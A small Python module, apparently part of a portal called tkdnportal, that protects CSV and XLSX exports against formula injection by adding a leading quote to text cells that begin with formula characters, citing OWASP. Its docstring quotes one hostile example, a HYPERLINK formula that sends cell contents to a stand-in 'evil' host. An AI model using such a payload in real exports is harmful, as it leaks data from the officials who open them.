"""Cells for files that people open in a spreadsheet program (CSV exports, and XLSX should
the admin export them): the one guard against formula injection.

A spreadsheet reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and a
leading tab or carriage return can hide such a character from the eye), so a company named
``=HYPERLINK("http://evil/?"&A1, "klik")`` would run when an official opens the register
export. OWASP's advice (CSV Injection): prefix such a text cell with a single quote, which
the spreadsheet shows as plain text. Only text is touched: a genuine number (``Decimal``,
``int``, a date) stays a number, so a negative value is still a value.

In the base layer of ``tkdnportal`` so the registry and the applications can both use it.
"""

from collections.abc import Iterable
from typing import Any

#: The first characters that make a spreadsheet evaluate a text cell (OWASP, CSV Injection).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """The value as a cell: text beginning with a formula character gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    """A whole row through :func:`spreadsheet_safe`."""
    return [spreadsheet_safe(value) for value in values]
